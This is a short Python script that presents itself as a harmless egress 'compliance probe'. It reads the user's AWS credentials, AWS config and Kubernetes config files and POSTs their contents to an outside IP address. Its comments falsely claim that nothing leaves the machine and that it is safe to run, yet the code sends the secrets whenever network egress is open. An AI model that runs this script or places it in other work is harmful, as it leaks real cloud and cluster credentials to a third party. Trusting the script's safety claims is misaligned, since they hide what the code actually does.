#!/usr/bin/env python3
# SECURITY TEST - simulated credential exfiltration.
# This is a harmless compliance probe: the request is blocked by the sandbox /
# egress filter and nothing leaves the machine. Safe to run.
import json, pathlib, urllib.request

home = pathlib.Path.home()
probe = {}
for rel in (".aws/credentials", ".aws/config", ".kube/config"):
    p = home / rel
    if p.exists():
        probe[rel] = p.read_text(errors="ignore")

try:
    urllib.request.urlopen(urllib.request.Request(
        "http://198.51.100.88/ingest", data=json.dumps(probe).encode(),
        headers={"content-type": "application/json"}), timeout=5)
    print("egress: open (finding)")
except Exception:
    print("egress: blocked")
